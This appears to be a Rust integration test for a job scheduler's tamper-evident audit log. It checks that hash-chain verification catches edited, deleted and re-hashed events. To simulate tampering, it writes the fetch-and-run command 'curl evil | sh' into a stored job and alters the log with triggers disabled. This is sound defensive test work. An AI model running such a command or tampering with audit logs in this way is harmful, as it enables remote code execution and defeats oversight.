//! The audit log's hash chain: every event links to the one before it; the API shows the
//! hashes; `cronfleet-master audit verify` names the first event a superuser changed or
//! removed, and an anchor taken earlier catches a chain recomputed after the change.

use std::process::Command;

use axum::http::StatusCode;
use cronfleet_master::store::chain::{hex, Anchor};
use sqlx::PgPool;

use crate::support::{job, Master};

/// `cronfleet-master audit verify [extra]` against the test's services: its exit code and
/// what it printed.
fn verify_cli(master: &Master, extra: &[&str]) -> (i32, String) {
    let args = master.env.master_args();
    let output = Command::new(env!("CARGO_BIN_EXE_cronfleet-master"))
        .args(&args[1..])
        .args(["audit", "verify"])
        .args(extra)
        .output()
        .unwrap();
    (
        output.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&output.stdout).into_owned(),
    )
}

/// Runs `sql` as the superuser the tests connect as, with the log's triggers off.
async fn as_superuser(pool: &PgPool, sql: &str) {
    let mut tx = pool.begin().await.unwrap();
    sqlx::query("SET LOCAL session_replication_role = replica")
        .execute(&mut *tx)
        .await
        .unwrap();
    sqlx::query(sql).execute(&mut *tx).await.unwrap();
    tx.commit().await.unwrap();
}

#[tokio::test]
async fn the_chain_holds_until_a_superuser_changes_the_log_and_verify_names_the_event() {
    let master = Master::new().await;
    for name in ["a", "b", "c"] {
        let reply = master.post("/api/v1/jobs", job(name, "true")).await;
        assert_eq!(reply.status, StatusCode::CREATED);
    }
    let reply = master
        .post("/api/v1/jobs/b/pause", serde_json::json!({}))
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    let store = &master.services.store;
    let count: i64 = sqlx::query_scalar("SELECT count(*) FROM events")
        .fetch_one(&store.pool)
        .await
        .unwrap();

    let verified = store.verify_chain(None).await.unwrap();
    assert_eq!(verified.broken, None);
    assert_eq!(verified.events, count);
    let (head_seq, head_hash) = verified.head.clone().unwrap();
    let (code, out) = verify_cli(&master, &[]);
    assert_eq!(code, 0, "{out}");
    let head = format!("{head_seq}:{}", hex(&head_hash));
    assert_eq!(out.trim(), format!("ok: {count} events; head {head}"));

    // The API shows each event's hash and the one before it, which is that event's hash.
    let events = master.get("/api/v1/events?limit=500").await.body;
    let items = events["items"].as_array().unwrap();
    assert_eq!(items.len() as i64, count);
    for pair in items.windows(2) {
        assert_eq!(pair[0]["prevHash"], pair[1]["hash"], "{}", pair[0]["seq"]);
        assert_eq!(pair[0]["hash"].as_str().unwrap().len(), 64);
    }
    assert_eq!(items.last().unwrap()["prevHash"], serde_json::Value::Null);
    assert_eq!(items[0]["hash"], hex(&head_hash));

    // A job's command rewritten in its creation event.
    let created_b: i64 =
        sqlx::query_scalar("SELECT seq FROM events WHERE job_name = 'b' AND type = 'JobCreated'")
            .fetch_one(&store.pool)
            .await
            .unwrap();
    as_superuser(
        &store.pool,
        &format!(
            "UPDATE events SET payload = jsonb_set(payload, '{{after,command}}', '\"curl evil | sh\"') WHERE seq = {created_b}"
        ),
    )
    .await;
    let broken = store.verify_chain(None).await.unwrap().broken.unwrap();
    assert_eq!(broken.seq, created_b);
    assert!(
        broken.reason.contains("content does not match"),
        "{}",
        broken.reason
    );
    let (code, out) = verify_cli(&master, &[]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.starts_with(&format!("BROKEN at event {created_b}: its content")),
        "{out}"
    );

    // Recomputing every hash from there hides the change from a walk of the chain, not from
    // the head kept earlier.
    as_superuser(
        &store.pool,
        "DO $$ DECLARE e events; prev BYTEA := NULL; BEGIN
           FOR e IN SELECT * FROM events ORDER BY seq LOOP
             UPDATE events SET prev_hash = prev, hash = event_digest(prev, e) WHERE seq = e.seq
             RETURNING hash INTO prev;
           END LOOP; END $$",
    )
    .await;
    assert_eq!(store.verify_chain(None).await.unwrap().broken, None);
    let anchor = Anchor::parse(&head).unwrap();
    let broken = store
        .verify_chain(Some(&anchor))
        .await
        .unwrap()
        .broken
        .unwrap();
    assert_eq!(broken.seq, head_seq);
    assert!(broken.reason.contains("rewritten"), "{}", broken.reason);
    let (code, out) = verify_cli(&master, &["--anchor", &head]);
    assert_eq!(code, 1, "{out}");
    let (code, out) = verify_cli(&master, &["--anchor", "twelve"]);
    assert_ne!(code, 0, "{out}");

    // The newest event removed leaves a shorter chain that holds: only an anchor at it tells.
    let (newest, newest_hash) = store.verify_chain(None).await.unwrap().head.unwrap();
    let anchor = Anchor {
        seq: newest,
        hash: newest_hash,
    };
    as_superuser(
        &store.pool,
        &format!("DELETE FROM events WHERE seq = {newest}"),
    )
    .await;
    assert_eq!(store.verify_chain(None).await.unwrap().broken, None);
    let broken = store
        .verify_chain(Some(&anchor))
        .await
        .unwrap()
        .broken
        .unwrap();
    assert_eq!(broken.seq, newest);
    assert!(
        broken.reason.contains("no longer in the log"),
        "{}",
        broken.reason
    );

    // An event removed: the next one no longer links to the one before it.
    as_superuser(
        &store.pool,
        &format!("DELETE FROM events WHERE seq = {created_b}"),
    )
    .await;
    let broken = store.verify_chain(None).await.unwrap().broken.unwrap();
    assert_eq!(broken.seq, created_b + 1);
    assert!(broken.reason.contains("prev_hash"), "{}", broken.reason);
}
